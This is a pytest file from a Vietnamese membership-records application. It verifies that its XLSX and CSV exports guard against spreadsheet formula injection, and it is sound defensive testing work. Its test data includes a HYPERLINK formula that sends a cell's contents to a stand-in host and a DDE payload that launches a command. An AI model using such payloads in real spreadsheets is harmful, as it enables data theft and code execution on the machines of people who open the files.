"""No XLSX or CSV the product writes carries a formula: a name typed as "=HYPERLINK(…)" opens as the letters typed
(issue 13, item 4). One rule (domain.cells), used by every writer: the exchange format (XLSX and CSV), the member
list, the work lists and the report's XLSX appendix."""

from __future__ import annotations

import csv
import datetime as dt
import io
from dataclasses import dataclass
from pathlib import Path

import openpyxl
import pytest

from dangvu.domain.cells import guarded, is_formula_like, needs_guard, unguarded
from dangvu.domain.reports.header import Header
from dangvu.domain.reports.model import Report, Table
from dangvu.domain.reports.periods import parse_period
from dangvu.imports.format import MEMBERS
from dangvu.imports.read import read_source
from dangvu.imports.workbook import write
from dangvu.members.exports import member_list_workbook
from dangvu.members.models import Member
from dangvu.reports.render.xlsx import render_xlsx
from dangvu.work.export import workbook

D = dt.date
LINK = '=HYPERLINK("http://x.example/?d="&A1,"Bấm vào đây")'
RISKY = [LINK, "+84 912 345 678", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "  =1+1", "＝1+1", "'=1+1", "''@x"]
PLAIN = ["Nguyễn Văn An", "Chi bộ 1", "", "'quoted", "a=b", "1-2"]


@pytest.mark.parametrize("text", RISKY)
def test_a_text_a_spreadsheet_would_run_is_guarded_and_read_back_as_typed(text: str) -> None:
    assert needs_guard(text)
    assert guarded(text).startswith("'") and not is_formula_like(guarded(text))
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize("text", PLAIN)
def test_an_ordinary_text_is_left_as_it_is(text: str) -> None:
    assert not needs_guard(text)
    assert guarded(text) == text and unguarded(text) == text


def _member(name: str, code: str) -> dict[str, object]:
    return {"code": code, "full_name": name, "gender": "male", "birth_date": D(1980, 1, 1)}


def _formula_cells(path: Path) -> list[str]:
    wb = openpyxl.load_workbook(path)
    cells = [c for ws in wb.worksheets for r in ws.iter_rows() for c in r]
    return [f"{c.parent.title}!{c.coordinate}" for c in cells if c.data_type == "f"]


def test_the_exchange_workbook_keeps_a_hostile_name_as_quote_prefixed_text(tmp_path: Path) -> None:
    rows = [_member(text, f"DV{i:07d}") for i, text in enumerate(RISKY, start=1)]
    path = write({MEMBERS.slug: rows}, tmp_path / "out.xlsx", stamp=dt.datetime(2026, 1, 1))
    assert _formula_cells(path) == []
    ws = openpyxl.load_workbook(path)[MEMBERS.name]
    col = MEMBERS.headers.index(MEMBERS.header_of("full_name")) + 1
    cells = {ws.cell(r, col).value: ws.cell(r, col) for r in range(2, ws.max_row + 1)}
    assert cells[LINK].data_type == "s" and cells[LINK].quotePrefix
    assert not cells["'=1+1"].value.startswith("''")  # the value is untouched; the style says "text"
    source, _ = read_source(path)
    assert source.rows(MEMBERS)[0]["full_name"] == LINK  # read back as typed


def test_the_exchange_csv_writes_a_hostile_name_behind_an_apostrophe_and_reads_it_back(tmp_path: Path) -> None:
    rows = [_member(LINK, "DV0000001"), _member("Nguyễn Văn An", "DV0000002")]
    out = write({MEMBERS.slug: rows}, tmp_path / "csv", stamp=dt.datetime(2026, 1, 1))
    with (out / MEMBERS.csv_name).open(encoding="utf-8-sig", newline="") as fh:
        written = list(csv.reader(fh))
    col = MEMBERS.headers.index(MEMBERS.header_of("full_name"))
    assert written[1][col] == "'" + LINK and written[2][col] == "Nguyễn Văn An"
    source, _ = read_source(out)
    assert [r["full_name"] for r in source.rows(MEMBERS)] == [LINK, "Nguyễn Văn An"]


def test_a_work_list_writes_every_risky_text_as_quote_prefixed_text() -> None:
    data = workbook(sheet="Kỷ luật", title="Danh sách", header=["Tên", "Ghi chú"], rows=[[t, t] for t in RISKY])
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    assert ws is not None
    cells = [c for row in ws.iter_rows(min_row=3) for c in row]
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)


@dataclass
class _Row:
    member: Member
    unit_name: str = "Chi bộ 1"
    status: str = "official"
    citizen_id: str = ""
    card_number: str = ""


def test_the_member_list_writes_a_hostile_name_as_quote_prefixed_text() -> None:
    rows = [
        _Row(Member(code=f"DV{i}", full_name=t, gender="male", birth_date=D(1980, 1, 1))) for i, t in enumerate(RISKY)
    ]
    data = member_list_workbook(rows, on=D(2026, 1, 1), who="=canbo", at=dt.datetime(2026, 1, 1, 8, 0))
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    assert ws is not None
    names = [ws.cell(r, 2) for r in range(3, 3 + len(RISKY))]
    assert [c.value for c in names] == RISKY
    assert all(c.data_type == "s" and c.quotePrefix for c in names)


def test_the_report_appendix_writes_a_hostile_subject_and_table_text_as_text(tmp_path: Path) -> None:
    header = Header("", "QUẬN ỦY X", "QU", 1, "BC", "2020–2025", "X", D(2024, 12, 31), "T/M", "BÍ THƯ", "A")
    rep = Report(
        kind="annual",
        title=LINK,
        subject=LINK,
        period=parse_period("2024", today=D(2025, 1, 1)),
        header=header,
        root_code="X",
        root_name="@cmd|' /C calc'!A0",
        tables=[Table(code="t", title="-1+1", columns=["Tên", "Số"], rows=[[LINK, 3]])],
    )
    path = render_xlsx(rep, tmp_path / "r.xlsx", actor="+canbo", at=dt.datetime(2025, 1, 1, 8, 0))
    assert _formula_cells(path) == []
    info = openpyxl.load_workbook(path)["Thông tin"]
    subject = info["B2"]
    assert subject.value == LINK and subject.data_type == "s" and subject.quotePrefix
    assert info["B3"].quotePrefix and info["B8"].quotePrefix  # the organization's name, the actor
